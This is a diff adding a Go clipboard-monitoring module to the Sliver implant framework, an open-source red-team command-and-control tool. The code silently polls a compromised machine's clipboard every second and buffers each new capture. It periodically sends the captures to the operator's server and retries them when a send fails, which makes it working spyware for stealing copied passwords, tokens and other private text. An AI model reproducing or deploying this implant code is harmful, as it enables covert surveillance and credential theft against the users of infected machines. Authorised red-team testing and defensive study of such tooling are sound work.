@@ -0,0 +1,236 @@
+package clipboard
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+	"sync"
+	"time"
+	"unicode/utf8"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+const (
+	defaultPollInterval = time.Second
+	defaultMaxSize      = 64 * 1024   // 64kb per capture
+	defaultBufferSize   = 1024 * 1024 // 1mb between flushes
+)
+
+var (
+	// ErrAlreadyRunning - The monitor has already been started
+	ErrAlreadyRunning = errors.New("Clipboard monitor is already running")
+	// ErrNotRunning - The monitor has not been started
+	ErrNotRunning = errors.New("Clipboard monitor is not running")
+
+	clips = &buffer{mutex: &sync.Mutex{}, maxSize: defaultBufferSize}
+
+	runMutex = &sync.Mutex{}
+	running  = false
+	stop     chan bool
+)
+
+// FlushFunc - Sends flushed clipboard entries back to the server, if an
+// error is returned the entries are put back into the buffer
+type FlushFunc func(*sliverpb.ClipboardLog) error
+
+// buffer - Bounded in-memory buffer of clipboard contents
+type buffer struct {
+	mutex   *sync.Mutex
+	entries []*sliverpb.ClipboardEntry
+	size    int
+	maxSize int
+	dropped uint32
+}
+
+func (b *buffer) record(entry *sliverpb.ClipboardEntry) {
+	b.mutex.Lock()
+	defer b.mutex.Unlock()
+	b.entries = append(b.entries, entry)
+	b.size += len(entry.Text)
+	b.evict()
+}
+
+func (b *buffer) flush() ([]*sliverpb.ClipboardEntry, uint32) {
+	b.mutex.Lock()
+	defer b.mutex.Unlock()
+	entries, dropped := b.entries, b.dropped
+	b.entries = []*sliverpb.ClipboardEntry{}
+	b.size = 0
+	b.dropped = 0
+	return entries, dropped
+}
+
+// evict - Drop the oldest entries until the buffer fits
+func (b *buffer) evict() {
+	for b.maxSize < b.size && 0 < len(b.entries) {
+		b.size -= len(b.entries[0].Text)
+		b.dropped++
+		b.entries = b.entries[1:]
+	}
+}
+
+// requeue - Put back entries that could not be sent ahead of any newer ones
+func (b *buffer) requeue(entries []*sliverpb.ClipboardEntry, dropped uint32) {
+	b.mutex.Lock()
+	defer b.mutex.Unlock()
+	b.entries = append(entries, b.entries...)
+	b.size = 0
+	for _, entry := range b.entries {
+		b.size += len(entry.Text)
+	}
+	b.dropped += dropped
+	b.evict()
+}
+
+// Capture - Read the clipboard, text longer than maxSize is truncated
+func Capture(maxSize int) (*sliverpb.ClipboardEntry, error) {
+	if maxSize <= 0 {
+		maxSize = defaultMaxSize
+	}
+	text, err := read()
+	if err != nil {
+		return nil, err
+	}
+	entry := &sliverpb.ClipboardEntry{
+		Text:      text,
+		Timestamp: time.Now().Unix(),
+	}
+	if maxSize < len(entry.Text) {
+		for 0 < maxSize && !utf8.RuneStart(entry.Text[maxSize]) {
+			maxSize--
+		}
+		entry.Text = entry.Text[:maxSize]
+		entry.Truncated = true
+	}
+	return entry, nil
+}
+
+// Start - Poll the clipboard and record its content whenever it changes,
+// entries are periodically passed to flushFunc if flushInterval is non-zero
+func Start(pollInterval time.Duration, flushInterval time.Duration, maxSize int, bufferSize int, flushFunc FlushFunc) error {
+	runMutex.Lock()
+	defer runMutex.Unlock()
+	if running {
+		return ErrAlreadyRunning
+	}
+	if _, err := read(); err != nil {
+		return err
+	}
+	if pollInterval <= 0 {
+		pollInterval = defaultPollInterval
+	}
+	if bufferSize <= 0 {
+		bufferSize = defaultBufferSize
+	}
+	clips.mutex.Lock()
+	clips.maxSize = bufferSize
+	clips.mutex.Unlock()
+
+	stop = make(chan bool)
+	running = true
+	go monitor(pollInterval, maxSize, stop)
+	if 0 < flushInterval {
+		go flushLoop(flushInterval, flushFunc, stop)
+	}
+	return nil
+}
+
+// Stop - Stop monitoring the clipboard, buffered entries are kept until flushed
+func Stop() error {
+	runMutex.Lock()
+	defer runMutex.Unlock()
+	if !running {
+		return ErrNotRunning
+	}
+	close(stop)
+	running = false
+	return nil
+}
+
+// IsRunning - Is the clipboard being monitored
+func IsRunning() bool {
+	runMutex.Lock()
+	defer runMutex.Unlock()
+	return running
+}
+
+// Flush - Return and clear the buffered entries and the number of entries
+// dropped since the last flush
+func Flush() ([]*sliverpb.ClipboardEntry, uint32) {
+	return clips.flush()
+}
+
+func monitor(pollInterval time.Duration, maxSize int, stop chan bool) {
+	ticker := time.NewTicker(pollInterval)
+	defer ticker.Stop()
+	last := ""
+	lastChange := changeCount()
+	for {
+		select {
+		case <-stop:
+			return
+		case <-ticker.C:
+			change := changeCount()
+			if change != 0 && change == lastChange {
+				continue
+			}
+			lastChange = change
+			entry, err := Capture(maxSize)
+			if err != nil {
+				// {{if .Debug}}
+				log.Printf("[clipboard] %s", err)
+				// {{end}}
+				continue
+			}
+			if entry.Text == "" || entry.Text == last {
+				continue
+			}
+			last = entry.Text
+			clips.record(entry)
+		}
+	}
+}
+
+func flushLoop(flushInterval time.Duration, flushFunc FlushFunc, stop chan bool) {
+	ticker := time.NewTicker(flushInterval)
+	defer ticker.Stop()
+	for {
+		select {
+		case <-stop:
+			return
+		case <-ticker.C:
+			entries, dropped := clips.flush()
+			if len(entries) == 0 && dropped == 0 {
+				continue
+			}
+			err := flushFunc(&sliverpb.ClipboardLog{Entries: entries, Dropped: dropped})
+			if err != nil {
+				// {{if .Debug}}
+				log.Printf("[clipboard] flush failed %s", err)
+				// {{end}}
+				clips.requeue(entries, dropped)
+			}
+		}
+	}
+}